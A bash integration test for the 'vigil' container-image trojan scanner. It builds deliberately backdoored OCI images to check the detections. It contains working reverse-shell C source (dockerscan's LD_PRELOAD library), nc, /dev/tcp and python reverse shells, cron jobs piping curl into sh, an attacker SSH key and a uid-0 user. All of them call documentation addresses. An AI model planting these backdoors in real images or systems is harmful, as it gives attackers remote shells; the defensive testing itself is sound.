#!/usr/bin/env bash
# tests/integration/test_audit_trojan.sh: `vigil audit --scanners trojan` on
# images trojanized here (docs/audit.md (Trojan and backdoor indicators)).
#  - the untouched demo Debian image (oci:v2, v1, base), its docker-archive
#    and the shared Alpine images give no finding;
#  - an image trojanized the way dockerscan's `image modify trojanize` and
#    `image modify entrypoint` do (a reverse-shell library built from
#    dockerscan's own reverse_shell_library.c, LD_PRELOAD and REMOTE_ADDR in
#    the config, etc/ld.so.preload, the entrypoint a string naming a wrapper
#    script) gives ld-so-preload, env-ld-preload, entrypoint-wrapper and
#    reverse-shell with their paths and layers;
#  - one image per other indicator (reverse shells in profile files,
#    setuid, cron, authorized_keys, uid 0, world-writable folders,
#    LD_LIBRARY_PATH, a deleted cron job, a benign wrapper that is info);
#  - the base image told by the history, package-owned files (information),
#    preloads graded by library, the entrypoint through symlinks;
#  - the real dockerscan 1.0.0a3 (scripts/tools.lock) trojanizes the shared
#    Alpine 3.10 image, offline; vigil refuses its output as it is (dockerscan
#    rewrites the config but keeps its old file name, so the config no longer
#    matches its digest) and, once repacked as `docker load` + `docker save`
#    would, finds the trojan. No python3 venv or no PyPI: that part skips
#    with the reason, the rest runs.
# Each base layer is the demo image's real etc/ (Debian 12), so the files a
# finding must not fire on are real ones.
. "$(dirname "$0")/lib/common.sh"
. "$(dirname "$0")/lib/oci.sh"
it_init
command -v cc >/dev/null 2>&1 || skip "cc is missing (the reverse-shell library is built from dockerscan's C source)"
ROOTFS=$IMAGES/rootfs-v2
[ -d "$ROOTFS/etc" ] || skip "$ROOTFS (scripts/make-images.sh) is missing"

audit() { # REF OUT: vigil's audit JSON of the trojan scanner (exit 0, no sanitizer report)
	local rc=0
	"$VIGIL" audit "$1" --scanners trojan --format json -q >"$2" 2>"$2.err" || rc=$?
	if [ "$rc" != 0 ] || grep -qE 'Sanitizer|runtime error:' "$2.err"; then
		fail "vigil audit $1: exit $rc"
		head -n 20 "$2.err"
	fi
}
# has FILE RULE PATH LAYER [SEVERITY]: a finding with that rule, path (null: the config) and layer index
has() {
	jqe --arg r "$2" --arg p "$3" --argjson l "$4" --arg s "${5:-}" \
		'[.findings[] | select(.rule == $r and (.path // "null") == $p and
		  ((.layer.index // -1) == $l) and ($s == "" or .severity == $s))] | length > 0' "$1" >/dev/null
}
jqe() { jq -e "$@" >/dev/null; }
count() { jq '.findings | length' "$1"; }
evidence() { jq -r --arg r "$2" --arg p "$3" '.findings[] | select(.rule == $r and (.path // "null") == $p) | .evidence' "$1"; }

# oci_config LAYOUT JQ: rewrites the config of the layout's image with a jq filter.
oci_config() {
	local out=$1 man cfg new nm
	man=$(jq -r '.manifests[0].digest' "$out/index.json")
	cfg=$(jq -r '.config.digest' "$out/blobs/sha256/${man#sha256:}")
	jq -c "$2" "$out/blobs/sha256/${cfg#sha256:}" >"$T/config.json" || return 1
	new=$(blob_put "$out" "$T/config.json")
	jq -c --arg d "$new" --argjson s "$(bsize "$out" "$new")" '.config.digest = $d | .config.size = $s' \
		"$out/blobs/sha256/${man#sha256:}" >"$T/manifest.json"
	nm=$(blob_put "$out" "$T/manifest.json")
	jq -c --arg d "$nm" --argjson s "$(bsize "$out" "$nm")" '.manifests[0].digest = $d | .manifests[0].size = $s' \
		"$out/index.json" >"$T/index.json" && mv "$T/index.json" "$out/index.json"
}
# history of a base layer, a CMD step, then N more layers (so the base is layer 0)
hist() {
	local n=$1 h='{"created_by":"debootstrap bookworm (etc only)"},{"created_by":"/bin/sh -c #(nop)  CMD [\"/usr/bin/app\"]","empty_layer":true}'
	for ((i = 1; i <= n; i++)); do h+=",{\"created_by\":\"/bin/sh -c step $i\"}"; done
	echo "[$h]"
}

# ---- the base folder: the demo image's real etc/ and a program ----
B=$T/base
mkdir -p "$B/usr/bin" "$B/usr/local/bin" "$B/tmp" "$B/root"
cp -a "$ROOTFS/etc" "$B/" 2>/dev/null || cp -r "$ROOTFS/etc" "$B/" 2>/dev/null || true
[ -f "$B/etc/passwd" ] || skip "cannot read $ROOTFS/etc"
printf '#!/bin/sh\necho app "$@"\n' >"$B/usr/bin/app"
chmod 755 "$B/usr/bin/app" "$B/usr/local/bin"
chmod 1777 "$B/tmp"

# ---- 1. untouched real images: no finding ----
for ref in "oci:$IMAGES/oci:v2" "oci:$IMAGES/oci:v1" "oci:$IMAGES/oci:base" \
	"docker-archive:$IMAGES/demo-v2.docker.tar"; do
	audit "$ref" "$T/clean.json"
	check_eq "untouched $ref: no trojan finding" 0 "$(count "$T/clean.json")"
done
for img in trivy_alpine-3.10.4/alpine-310.tar.gz trivy_alpine-3.11.5/alpine-311.tar.gz; do
	f=${VIGIL_TESTDATA:-$SRC/../shared/testdata}/images/$img
	[ -f "$f" ] || { note "$f is missing: not audited"; continue; }
	audit "$f" "$T/clean.json"
	check_eq "untouched $img: no trojan finding" 0 "$(count "$T/clean.json")"
done
oci_from_dirs "$T/plain" "$B"
oci_config "$T/plain" ".history = $(hist 0) | .config = {Env: [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"], Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/plain:t" "$T/plain.json"
check_eq "the base folder alone (Debian's real etc/): no finding" 0 "$(count "$T/plain.json")"

# ---- 2. trojanized as dockerscan does ----
# dockerscan/doc/preparation/reverse_shell_library.c (cr0hn/dockerscan, BSD-3-Clause), as shipped
# compiled in its package as dockerscan/actions/image/modifiers/shells/reverse_shell.so
cat >"$T/reverse_shell_library.c" <<'EOF'
#include <stdio.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <stdlib.h>
#include <arpa/inet.h>
static int con() __attribute__((constructor));
int con()
{
	int pid = fork();
	if (pid == 0) {
		const char *raddr = (const char *)getenv("REMOTE_ADDR");
		uint16_t rport = (uint16_t)atoi(getenv("REMOTE_PORT"));
		char buffy[] = "connecting people\n\r";
		struct sockaddr_in sa;
		int s;
		sa.sin_family = AF_INET;
		sa.sin_addr.s_addr = inet_addr(raddr);
		sa.sin_port = htons(rport);
		s = socket(AF_INET, SOCK_STREAM, 0);
		connect(s, (struct sockaddr *)&sa, sizeof(sa));
		write(s, buffy, sizeof(buffy));
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		execve("/bin/sh", 0, 0);
		return 0;
	}
	return 0;
}
EOF
L1=$T/troj1
mkdir -p "$L1/usr/share/lib" "$L1/etc" "$L1/usr/local/bin"
cc -shared -fPIC -o "$L1/usr/share/lib/reverse_shell.so" "$T/reverse_shell_library.c" -w ||
	skip "cc cannot build a shared library here"
echo /usr/share/lib/reverse_shell.so >"$L1/etc/ld.so.preload"
cat >"$L1/usr/local/bin/start.sh" <<'EOF'
#!/bin/sh
# the wrapper `dockerscan image modify entrypoint --add` puts in front of the program
nc 10.0.0.1 4444 -e /bin/sh >/dev/null 2>&1 &
exec /usr/bin/app "$@"
EOF
chmod 755 "$L1/usr/local/bin/start.sh"
oci_from_dirs "$T/troj" "$B" "$L1"
oci_config "$T/troj" ".history = $(hist 1) | .config = {Env: [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\",
	\"LD_PRELOAD=/usr/share/lib/reverse_shell.so\", \"REMOTE_ADDR=10.0.0.1\", \"REMOTE_PORT=4444\"],
	Entrypoint: \"/usr/local/bin/start.sh\", Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/troj:t" "$T/troj.json"
check "dockerscan-style: ld-so-preload etc/ld.so.preload layer 1 Critical" has "$T/troj.json" ld-so-preload etc/ld.so.preload 1 Critical
check "ld-so-preload names the library and what it calls" \
	grep -q 'usr/share/lib/reverse_shell.so (layer 1, outside the library folders, an ELF file naming socket, connect, dup2, exec, /bin/sh (what a reverse shell calls))' \
	<(evidence "$T/troj.json" ld-so-preload etc/ld.so.preload)
check "dockerscan-style: env-ld-preload on the library, layer 1, Critical" has "$T/troj.json" env-ld-preload usr/share/lib/reverse_shell.so 1 Critical
check "env-ld-preload says dockerscan's REMOTE_ADDR" grep -q 'REMOTE_ADDR=10.0.0.1 REMOTE_PORT=4444' \
	<(evidence "$T/troj.json" env-ld-preload usr/share/lib/reverse_shell.so)
check "dockerscan-style: entrypoint-wrapper usr/local/bin/start.sh layer 1 High" has "$T/troj.json" entrypoint-wrapper usr/local/bin/start.sh 1 High
check "dockerscan-style: reverse-shell in the wrapper, line 3" \
	jqe '.findings[] | select(.rule == "reverse-shell" and .path == "usr/local/bin/start.sh" and .line == 3 and .layer.index == 1)' "$T/troj.json"
check_eq "dockerscan-style: nothing else" 4 "$(count "$T/troj.json")"
rc=0
"$VIGIL" audit "oci:$T/troj:t" --scanners trojan -q --exit-code 3 >"$T/troj.table" 2>&1 || rc=$?
check_eq "--exit-code 3 fails the trojanized image" 3 "$rc"
check "the table names the rule" grep -q 'ld-so-preload' "$T/troj.table"

# the same library and wrapper, the Entrypoint a JSON string and no pattern in the script: Medium
L1b=$T/troj1b
mkdir -p "$L1b/usr/local/bin"
printf '#!/bin/sh\n/usr/share/lib/helper >/dev/null 2>&1 &\nexec /usr/bin/app "$@"\n' >"$L1b/usr/local/bin/start.sh"
chmod 755 "$L1b/usr/local/bin/start.sh"
oci_from_dirs "$T/ep" "$B" "$L1b"
oci_config "$T/ep" ".history = $(hist 1) | .config = {Entrypoint: \"/usr/local/bin/start.sh\", Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/ep:t" "$T/ep.json"
check "Entrypoint a plain string naming an added script: entrypoint-wrapper Medium" has "$T/ep.json" entrypoint-wrapper usr/local/bin/start.sh 1 Medium

# ---- 3. one image per other indicator ----
L=$T/ind
mkdir -p "$L/etc/profile.d" "$L/home/app" "$L/usr/local/bin" "$L/usr/local/sbin" "$L/usr/bin" "$L/etc/cron.d" \
	"$L/var/spool/cron/crontabs" "$L/root/.ssh" "$L/etc" "$L/usr/local/share/x"
echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &' >"$L/etc/profile.d/zz-update.sh"
printf '# ~/.bashrc\nalias ll="ls -l"\npython3 -c '"'"'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'"'"'\n' \
	>"$L/home/app/.bashrc"
printf '\x7fELF helper\n' >"$L/usr/local/bin/helper"
chmod 4755 "$L/usr/local/bin/helper"
printf '#!/bin/sh\n' >"$L/usr/bin/sudo"
chmod 4755 "$L/usr/bin/sudo"
printf 'SHELL=/bin/sh\n30 3 * * * root /usr/local/bin/backup.sh\n' >"$L/etc/cron.d/backup"
printf '*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n' >"$L/etc/cron.d/update"
printf '* * * * * /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/53 0>&1"\n' >"$L/var/spool/cron/crontabs/root"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx6d1J0c3RrZXlmb3J0ZXN0aW5nb25seTAwMDAwMDA attacker@203.0.113.7' \
	>"$L/root/.ssh/authorized_keys"
{ cat "$B/etc/passwd"; echo 'toor:x:0:0:toor:/root:/bin/bash'; } >"$L/etc/passwd"
TOOR_LINE=$(wc -l <"$L/etc/passwd")
chmod 0777 "$L/usr/local/bin"
chmod 0777 "$L/usr/local/share/x"
printf '#!/bin/sh\necho tool\n' >"$L/usr/local/sbin/tool"
chmod 0777 "$L/usr/local/sbin/tool"
oci_from_dirs "$T/ind" "$B" "$L"
oci_config "$T/ind" ".history = $(hist 1) | .config = {Env: [\"LD_LIBRARY_PATH=/tmp/lib:/usr/lib\"], Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/ind:t" "$T/ind.json"
check "reverse-shell etc/profile.d/zz-update.sh layer 1 Critical" has "$T/ind.json" reverse-shell etc/profile.d/zz-update.sh 1 Critical
check "reverse-shell home/app/.bashrc (python pty) line 3" \
	jqe '.findings[] | select(.rule == "reverse-shell" and .path == "home/app/.bashrc" and .line == 3)' "$T/ind.json"
check "setuid-new usr/local/bin/helper layer 1 High" has "$T/ind.json" setuid-new usr/local/bin/helper 1 High
check "setuid-new usr/bin/sudo (a known setuid program) Medium" has "$T/ind.json" setuid-new usr/bin/sudo 1 Medium
check "cron-entry etc/cron.d/backup (added above the base) Medium" has "$T/ind.json" cron-entry etc/cron.d/backup 1 Medium
check "cron-entry etc/cron.d/update (curl | sh) Critical" has "$T/ind.json" cron-entry etc/cron.d/update 1 Critical
check "cron-entry var/spool/cron/crontabs/root (/dev/tcp) Critical" has "$T/ind.json" cron-entry var/spool/cron/crontabs/root 1 Critical
check "authorized-keys root/.ssh/authorized_keys High" has "$T/ind.json" authorized-keys root/.ssh/authorized_keys 1 High
check "authorized-keys names the key's comment" grep -q 'attacker@203.0.113.7' <(evidence "$T/ind.json" authorized-keys root/.ssh/authorized_keys)
check "uid0-user etc/passwd layer 1 on toor's line" \
	jqe --argjson l "$TOOR_LINE" '.findings[] | select(.rule == "uid0-user" and .path == "etc/passwd" and .line == $l and .match == "toor")' "$T/ind.json"
check "world-writable-dir usr/local/bin layer 1 High" has "$T/ind.json" world-writable-dir usr/local/bin 1 High
check "world-writable-dir usr/local/share/x" has "$T/ind.json" world-writable-dir usr/local/share/x 1 High
check "no world-writable-dir for tmp (sticky)" bash -c "! jq -e '.findings[] | select(.path == \"tmp\")' '$T/ind.json'"
check "env-ld-preload (LD_LIBRARY_PATH /tmp/lib) on the config, Medium" has "$T/ind.json" env-ld-preload null -1 Medium
check "world-writable-file usr/local/sbin/tool (a program) High" has "$T/ind.json" world-writable-file usr/local/sbin/tool 1 High
check_eq "indicators image: exactly these 13 findings" 13 "$(count "$T/ind.json")"

# a reverse-shell cron job a later layer deleted: still found, deleted
L2=$T/del1 L3=$T/del2
mkdir -p "$L2/etc/cron.d" "$L3/etc/cron.d"
printf '* * * * * root nc -e /bin/sh 203.0.113.7 4444\n' >"$L2/etc/cron.d/evil"
: >"$L3/etc/cron.d/.wh.evil"
oci_from_dirs "$T/del" "$B" "$L2" "$L3"
oci_config "$T/del" ".history = $(hist 2) | .config = {Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/del:t" "$T/del.json"
check "a deleted cron job: cron-entry Critical, layer 1, deleted" \
	jqe '.findings[] | select(.rule == "cron-entry" and .path == "etc/cron.d/evil" and .layer.index == 1 and .deleted == true and .severity == "Critical")' "$T/del.json"
check_eq "the deleted cron job: one finding" 1 "$(count "$T/del.json")"

# the entrypoint reached through symlinks: a merged-/usr bin -> usr/bin, and the official images'
# /docker-entrypoint.sh -> usr/local/bin/docker-entrypoint.sh added by a later layer than the script
L6=$T/sym1 L7=$T/sym2
mkdir -p "$L6/usr/bin" "$L6/usr/local/bin" "$L7"
ln -s usr/bin "$L6/bin"
printf '#!/bin/bash\nmkfifo /tmp/p; /bin/sh -i </tmp/p 2>&1 | nc 203.0.113.7 4444 >/tmp/p &\nexec /usr/bin/app "$@"\n' >"$L6/usr/bin/start.sh"
printf '#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.7/x | sh\nexec "$@"\n' >"$L6/usr/local/bin/docker-entrypoint.sh"
chmod 755 "$L6/usr/bin/start.sh" "$L6/usr/local/bin/docker-entrypoint.sh"
ln -s usr/local/bin/docker-entrypoint.sh "$L7/docker-entrypoint.sh"
oci_from_dirs "$T/symimg" "$B" "$L6" "$L7"
oci_config "$T/symimg" ".history = $(hist 2) | .config = {Entrypoint: [\"/bin/start.sh\"], Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/symimg:t" "$T/sym.json"
check "entrypoint /bin/start.sh through bin -> usr/bin: entrypoint-wrapper usr/bin/start.sh layer 1 High" \
	has "$T/sym.json" entrypoint-wrapper usr/bin/start.sh 1 High
check "... and reverse-shell on its line 2" has "$T/sym.json" reverse-shell usr/bin/start.sh 1 Critical
oci_config "$T/symimg" '.config = {Entrypoint: ["/docker-entrypoint.sh"], Cmd: ["/usr/bin/app"]}'
audit "oci:$T/symimg:t" "$T/sym2.json"
check "entrypoint /docker-entrypoint.sh, a symlink from a later layer: the script in layer 1, High" \
	has "$T/sym2.json" entrypoint-wrapper usr/local/bin/docker-entrypoint.sh 1 High
check "... its download piped into a shell named" grep -q 'line 3, download piped into a shell' \
	<(evidence "$T/sym2.json" entrypoint-wrapper usr/local/bin/docker-entrypoint.sh)

# the program itself replaced: a real ELF in the base, a later layer puts a shell script at its path
L8=$T/swap0 L9=$T/swap1
mkdir -p "$L8/usr/sbin" "$L9/usr/sbin" "$L9/usr/share/.cache"
cp "$(type -P true)" "$L8/usr/sbin/daemon"
cp "$(type -P true)" "$L9/usr/sbin/daemon.real"
printf '#!/bin/sh\n/usr/share/.cache/kworker >/dev/null 2>&1 &\nexec /usr/sbin/daemon.real "$@"\n' >"$L9/usr/sbin/daemon"
chmod 755 "$L9/usr/sbin/daemon"
oci_from_dirs "$T/swapimg" "$B" "$L8" "$L9"
oci_config "$T/swapimg" '.history = [{"created_by":"base"},{"created_by":"CMD [\"/usr/sbin/daemon\"]","empty_layer":true},{"created_by":"COPY daemon"},{"created_by":"COPY wrapper"}] | .config = {Entrypoint: ["/usr/sbin/daemon"]}'
audit "oci:$T/swapimg:t" "$T/swap.json"
check "a binary entrypoint replaced by a shell script: entrypoint-wrapper usr/sbin/daemon layer 2 High" \
	has "$T/swap.json" entrypoint-wrapper usr/sbin/daemon 2 High
check "... naming the layer of the binary" jqe '.findings[] | select(.rule == "entrypoint-wrapper" and .other_layer.index == 1)' "$T/swap.json"

# a setuid program and a cron file a package installed above the base (dpkg's file list,
# apk's installed db say so): information, with the package named
L10=$T/pkg
mkdir -p "$L10/usr/bin" "$L10/etc/cron.d" "$L10/var/lib/dpkg/info" "$L10/lib/apk/db"
printf '#!/bin/sh\n' >"$L10/usr/bin/sudo"
printf '#!/bin/sh\n' >"$L10/usr/bin/doas"
chmod 4755 "$L10/usr/bin/sudo" "$L10/usr/bin/doas"
printf '5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n' >"$L10/etc/cron.d/sysstat"
printf '/.\n/usr\n/usr/bin\n/usr/bin/sudo\n' >"$L10/var/lib/dpkg/info/sudo.list"
printf '/.\n/etc\n/etc/cron.d\n/etc/cron.d/sysstat\n' >"$L10/var/lib/dpkg/info/sysstat.list"
printf 'C:Q1abc=\nP:doas\nV:6.8-r1\nF:usr/bin\nR:doas\n\n' >"$L10/lib/apk/db/installed"
oci_from_dirs "$T/pkgimg" "$B" "$L10"
oci_config "$T/pkgimg" ".history = $(hist 1) | .config = {Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/pkgimg:t" "$T/pkg.json"
check "setuid usr/bin/sudo of package sudo: information" \
	jqe '.findings[] | select(.rule == "setuid-new" and .path == "usr/bin/sudo" and .info == true and .package == "sudo")' "$T/pkg.json"
check "setuid usr/bin/doas of apk package doas: information" \
	jqe '.findings[] | select(.rule == "setuid-new" and .path == "usr/bin/doas" and .info == true and .package == "doas")' "$T/pkg.json"
check "cron file of package sysstat: information" \
	jqe '.findings[] | select(.rule == "cron-entry" and .path == "etc/cron.d/sysstat" and .info == true and .package == "sysstat")' "$T/pkg.json"
check_eq "package-owned: no alarm" 0 "$(jq '[.findings[] | select(.info == false)] | length' "$T/pkg.json")"
rc=0
"$VIGIL" audit "oci:$T/pkgimg:t" --scanners trojan -q --exit-code 3 >/dev/null 2>&1 || rc=$?
check_eq "package-owned: the --exit-code gate passes" 0 "$rc"

# the base image told by the history: two base layers (their CMD step last), then the image's own;
# a cron job in the second base layer is the base's, one in the image's own layer is news
L11=$T/b2 L12=$T/own
mkdir -p "$L11/etc/cron.d" "$L12/etc/cron.d"
printf '0 4 * * * root /usr/sbin/base-job\n' >"$L11/etc/cron.d/base-job"
printf '0 5 * * * root /usr/local/bin/own-job\n' >"$L12/etc/cron.d/own-job"
oci_from_dirs "$T/baseimg" "$B" "$L11" "$L12"
oci_config "$T/baseimg" '.history = [{"created_by":"ADD rootfs.tar /"},{"created_by":"RUN install base-job"},{"created_by":"CMD [\"bash\"]","empty_layer":true},{"created_by":"RUN install own-job"}] | .config = {Cmd: ["/usr/bin/app"]}'
audit "oci:$T/baseimg:t" "$T/base.json"
check "history: a cron job of the base image's second layer is not reported" \
	bash -c "! jq -e '.findings[] | select(.path == \"etc/cron.d/base-job\")' '$T/base.json' >/dev/null"
check "history: a cron job of the image's own layer 2 is cron-entry Medium" has "$T/base.json" cron-entry etc/cron.d/own-job 2 Medium

# preloads graded by the library: jemalloc from the config (on purpose: info), an unknown
# library in a library folder from etc/ld.so.preload (High)
L5=$T/pre
mkdir -p "$L5/usr/lib/x86_64-linux-gnu" "$L5/etc"
printf '\x7fELF jemalloc\n' >"$L5/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"
printf '\x7fELF notes\n' >"$L5/usr/lib/x86_64-linux-gnu/libnotes.so"
printf '# preloaded\n/usr/lib/x86_64-linux-gnu/libnotes.so\n' >"$L5/etc/ld.so.preload"
oci_from_dirs "$T/preimg" "$B" "$L5"
oci_config "$T/preimg" ".history = $(hist 1) | .config = {Env: [\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\"], Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/preimg:t" "$T/pre.json"
check "LD_PRELOAD of jemalloc: env-ld-preload, information" \
	jqe '.findings[] | select(.rule == "env-ld-preload" and .path == "usr/lib/x86_64-linux-gnu/libjemalloc.so.2" and .info == true and .severity == "Low")' "$T/pre.json"
check "ld.so.preload of an unknown library in a library folder: High" has "$T/pre.json" ld-so-preload etc/ld.so.preload 1 High
check_eq "preloads: two findings" 2 "$(count "$T/pre.json")"

# a benign docker-entrypoint.sh (setup, then exec "$@") found through PATH: info only, the gate passes
L4=$T/wrap
mkdir -p "$L4/usr/local/bin"
printf '#!/bin/sh\nset -e\nmkdir -p /run/app\nchown app /run/app\nexec "$@"\n' >"$L4/usr/local/bin/docker-entrypoint.sh"
chmod 755 "$L4/usr/local/bin/docker-entrypoint.sh"
oci_from_dirs "$T/wrapimg" "$B" "$L4"
oci_config "$T/wrapimg" ".history = $(hist 1) | .config = {Env: [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"], Entrypoint: [\"docker-entrypoint.sh\"], Cmd: [\"/usr/bin/app\"]}"
audit "oci:$T/wrapimg:t" "$T/wrap.json"
check "benign wrapper: entrypoint-wrapper, info" \
	jqe '.findings[] | select(.rule == "entrypoint-wrapper" and .path == "usr/local/bin/docker-entrypoint.sh" and .info == true and .layer.index == 1)' "$T/wrap.json"
rc=0
"$VIGIL" audit "oci:$T/wrapimg:t" --scanners trojan -q --exit-code 3 >/dev/null 2>&1 || rc=$?
check_eq "benign wrapper: --exit-code gate passes (info is no alarm)" 0 "$rc"

# ---- 4. the real dockerscan ----
# repack IN OUT: the docker-archive with its config named by its sha256 (what docker load + save gives)
repack() {
	local d cfg h
	d=$(mktemp -d "$T/rp.XXXXXX")
	tar -C "$d" -xf "$1" 2>/dev/null || return 1
	cfg=$(jq -r '.[0].Config' "$d/manifest.json")
	h=$(sha256sum "$d/$cfg" | cut -d' ' -f1)
	[ "$cfg" = "$h.json" ] || mv "$d/$cfg" "$d/$h.json"
	jq -c --arg c "$h.json" '.[0].Config = $c' "$d/manifest.json" >"$d/m" && mv "$d/m" "$d/manifest.json"
	(cd "$d" && tar -cf - -- *) >"$2"
}
# dockerscan_install: $DS = the pinned dockerscan in its own venv, or 1 with the reason in $DS_WHY
dockerscan_install() {
	local ver venv=${VIGIL_TOOLS_DIR:-$SRC/build/tools}/dockerscan-venv
	ver=$(awk '$1 == "#pip" && $2 == "dockerscan" { print $4 }' "$SRC/scripts/tools.lock")
	DS=$venv/bin/dockerscan
	[ -x "$DS" ] && [ "$(cat "$venv/.version" 2>/dev/null)" = "$ver" ] && return 0
	command -v python3 >/dev/null 2>&1 || { DS_WHY="python3 is missing"; return 1; }
	mkdir -p "$(dirname "$venv")"
	python3 -m venv "$venv" >"$T/ds-venv.log" 2>&1 || { DS_WHY="python3 -m venv failed"; return 1; }
	echo 'setuptools<58' >"$venv/constraints.txt"
	if ! PIP_CONSTRAINT=$venv/constraints.txt timeout 900 "$venv/bin/pip" install -q --disable-pip-version-check --retries 1 --timeout 60 \
		"dockerscan==$ver" >"$T/ds-pip.log" 2>&1; then
		DS_WHY="pip install dockerscan==$ver failed (no PyPI here?): $(tail -n 2 "$T/ds-pip.log" | tr '\n' ' ')"
		return 1
	fi
	# requests 2.13.0 (its pin) does not import on Python 3.10+; trojanize never calls it
	if ! timeout 600 "$venv/bin/pip" install -q --disable-pip-version-check --retries 1 --timeout 60 'requests==2.31.0' >>"$T/ds-pip.log" 2>&1; then
		DS_WHY="pip install requests==2.31.0 failed: $(tail -n 2 "$T/ds-pip.log" | tr '\n' ' ')"
		return 1
	fi
	echo "$ver" >"$venv/.version"
}
ALP=${VIGIL_TESTDATA:-$SRC/../shared/testdata}/images/trivy_alpine-3.10.4/alpine-310.tar.gz
if [ ! -f "$ALP" ]; then
	note "SKIP (real dockerscan): $ALP is missing"
elif ! dockerscan_install; then
	note "SKIP (real dockerscan): $DS_WHY"
else
	mkdir -p "$T/ds"
	gunzip -c "$ALP" >"$T/ds/alpine-310.tar"
	(cd "$T/ds" && "$DS" image modify trojanize alpine-310.tar -l 203.0.113.7 -p 4444 -o trojaned >"$T/ds/log" 2>&1)
	check "dockerscan trojanize ran offline" test -s "$T/ds/trojaned.tar"
	rc=0
	"$VIGIL" audit "docker-archive:$T/ds/trojaned.tar" --scanners trojan -q --format json >/dev/null 2>"$T/ds/err" || rc=$?
	check_eq "dockerscan's output as it is: refused (exit 1)" 1 "$rc"
	check "the refusal says the config no longer matches its digest" grep -q 'does not match its digest' "$T/ds/err"
	repack "$T/ds/trojaned.tar" "$T/ds/repacked.tar"
	audit "docker-archive:$T/ds/repacked.tar" "$T/ds.json"
	check "real dockerscan trojanize: env-ld-preload usr/share/lib/reverse_shell.so layer 0 Critical" \
		has "$T/ds.json" env-ld-preload usr/share/lib/reverse_shell.so 0 Critical
	check "real dockerscan trojanize: its .so is a reverse shell, REMOTE_ADDR named" \
		grep -q 'what a reverse shell calls.*REMOTE_ADDR=203.0.113.7 REMOTE_PORT=4444' \
		<(evidence "$T/ds.json" env-ld-preload usr/share/lib/reverse_shell.so)
	# dockerscan image modify entrypoint --add: a wrapper script as the new entrypoint (a JSON string)
	printf '#!/bin/sh\nnc 203.0.113.7 4444 -e /bin/sh &\nexec /bin/sh "$@"\n' >"$T/ds/start.sh"
	chmod 755 "$T/ds/start.sh"
	gunzip -c "$ALP" >"$T/ds/in.tar"
	(cd "$T/ds" && "$DS" image modify entrypoint in.tar /usr/local/bin/start.sh --add start.sh -o ep >>"$T/ds/log" 2>&1)
	repack "$T/ds/ep.tar" "$T/ds/ep-repacked.tar"
	audit "docker-archive:$T/ds/ep-repacked.tar" "$T/dsep.json"
	check "real dockerscan entrypoint: entrypoint-wrapper usr/local/bin/start.sh High" \
		has "$T/dsep.json" entrypoint-wrapper usr/local/bin/start.sh 0 High
	check "real dockerscan entrypoint: reverse-shell line 2" \
		jqe '.findings[] | select(.rule == "reverse-shell" and .path == "usr/local/bin/start.sh" and .line == 2)' "$T/dsep.json"
fi
it_done
